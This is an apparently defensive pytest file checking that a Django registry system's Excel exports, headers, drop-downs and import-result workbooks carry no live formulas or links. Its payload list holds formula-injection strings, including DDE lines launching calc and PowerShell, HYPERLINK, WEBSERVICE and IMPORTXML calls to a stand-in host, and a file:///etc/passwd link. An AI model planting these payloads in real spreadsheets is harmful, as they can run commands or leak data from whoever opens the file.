"""Row E3 of the reliability programme: nothing that comes out of the system is alive in Excel, whatever was typed into it."""

from dataclasses import replace
from io import BytesIO
from typing import Any
from zipfile import ZipFile

import openpyxl
import pytest
from openpyxl.utils.escape import unescape

from gonghui.areas.register.actions import edit_employer
from gonghui.core.actions.door import acting
from gonghui.core.exchange.actions import check_batch, map_batch, start_batch
from gonghui.core.exchange.exports import Export, lists, workbook
from gonghui.core.exchange.reading import read
from gonghui.core.exchange.results import result_workbook
from gonghui.core.exchange.writing import Head, Table, write_workbook
from tests.cast import SYSTEM, Cast
from tests.exchange.workbooks import HEADS, xlsx_of
from tests.exports.books import export, newest
from tests.test_pages import signed_in

COMMANDS = ["1+1", "SUM(A1:A9)", 'HYPERLINK("http://x.example","点我")', "cmd|' /C calc'!A0", 'WEBSERVICE("http://x.example")']
STARTS = ["=", "+", "-", "@", "＝", "＋", "－", "＠"]
PAYLOADS = [
    *(f"{start}{command}" for start in STARTS for command in COMMANDS),
    *(f"{blank}=1+1" for blank in ("\t", "\r", "\n", " ", "\u3000", "\ufeff", "'", '"', ";", ",")),
    "=cmd|'/C powershell'!A1",
    "-2+3+cmd|' /C calc'!A0",
    "DDE(\"cmd\";\"/C calc\";\"__\")",
    "=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")",
    "{=1+1}",
    "https://x.example/=1",
    "mailto:x@example.org",
    "internal:Sheet2!A1",
    "external:c:\\x.xls#Sheet1!A1",
    "file:///etc/passwd",
]  # fmt: skip
HARMLESS = [
    "-5",
    "-1234.50",
    "+86 138 0013 8000",
    "0512",
    "013800138000",
    "1e5",
    "1-2",
    "3/4",
    "+1",
    "110101199003071234",
    "00",
]


def alive(content: bytes) -> list[str]:
    """What Excel would calculate, follow or fetch when it opens a workbook."""
    found = []
    with ZipFile(BytesIO(content)) as parts:
        for name in parts.namelist():
            part = parts.read(name)
            found += [
                f"{name}: {mark!r}" for mark in (b"<f>", b"<f ", b"hyperlink", b"externalLink", b"ddeLink") if mark in part
            ]
    for sheet in openpyxl.load_workbook(BytesIO(content)).worksheets:
        found += [
            f"{sheet.title}!{cell.coordinate}" for row in sheet.rows for cell in row if cell.data_type == "f" or cell.hyperlink
        ]
    return found


def column(content: bytes, place: int) -> list[Any]:
    """The cells below the head, as another library reads them."""
    sheet = openpyxl.load_workbook(BytesIO(content)).worksheets[0]
    return [unescape(row[place].value) for row in sheet.iter_rows(min_row=2)]


def test_there_are_payloads_enough() -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) >= 40
    assert len(lists) >= 4


@pytest.mark.django_db
def test_no_column_of_any_list_takes_a_formula() -> None:
    """Every column of every list, whatever its kind, is given every payload."""
    for one in lists.values():
        columns = [replace(column, accessor=lambda row: row) for column in one.sheet.columns]
        rows = dict(enumerate(PAYLOADS))
        made = Export("=1+1", columns, list(rows), lambda keys, rows=rows: rows, [(text, text) for text in PAYLOADS])  # type: ignore[misc]
        content = workbook(made)
        assert alive(content) == [], one.sheet.code
        for place, head in enumerate(columns):
            if head.kind == "bool":
                continue  # said in words of our own
            assert column(content, place) == PAYLOADS, (one.sheet.code, head.code)


def test_heads_titles_and_drop_downs_are_not_alive_either() -> None:
    target = BytesIO()
    few, many = PAYLOADS[:3], PAYLOADS
    heads = [*(Head(text) for text in PAYLOADS), Head("短", choices=few), Head("长", choices=many, hint="=1+1")]
    write_workbook(target, [Table("=1+1", heads, [])])
    content = target.getvalue()
    assert alive(content) == []
    book = openpyxl.load_workbook(BytesIO(content))
    rules = [rule.formula1 for rule in book.worksheets[0].data_validations.dataValidation if rule.type == "list"]
    assert all(rule.startswith(('"', "'_lists'!")) for rule in rules)
    assert len(rules) == 2


def test_numbers_and_phones_that_only_look_alive_come_back_unharmed() -> None:
    content = xlsx_of(["甲", "乙"], [[text, "x"] for text in HARMLESS])
    assert column(content, 0) == HARMLESS
    assert [row[0] for row in read(content).sheets[0].rows[1:]] == HARMLESS


def test_what_was_typed_goes_out_as_it_was_typed(cast: Cast) -> None:
    """The same through the pages: a name, an address, the purpose and the condition of the export."""
    text = PAYLOADS[2]
    with acting(SYSTEM):
        edit_employer(cast.mill, actor=SYSTEM, name=text, address=text)
    lines, notes = export(
        signed_in(cast, "street_officer"), "/exports/list:register.employers/?name=HYPERLINK&cols=name&cols=address"
    )
    assert lines[1][:2] == [text, text]
    assert "HYPERLINK" in notes["条件"]
    _file, content = newest()
    assert alive(content) == []


def test_the_workbook_that_comes_back_with_its_problems_is_dead_too(cast: Cast) -> None:
    """What was uploaded stands in it cell by cell, with sentences that repeat what is wrong."""
    rows = [[text] * len(HEADS) for text in PAYLOADS]
    with acting(SYSTEM):
        batch = start_batch(
            cast.street, actor=SYSTEM, sheet="register.employers", name="=1+1.xlsx", content=xlsx_of(HEADS, rows)
        )
        map_batch(batch, actor=SYSTEM, mapping=batch.mapped)
        check_batch(batch, actor=SYSTEM)
        batch.refresh_from_db()
        assert batch.wrong == len(PAYLOADS)
        assert alive(result_workbook(batch, SYSTEM)) == []
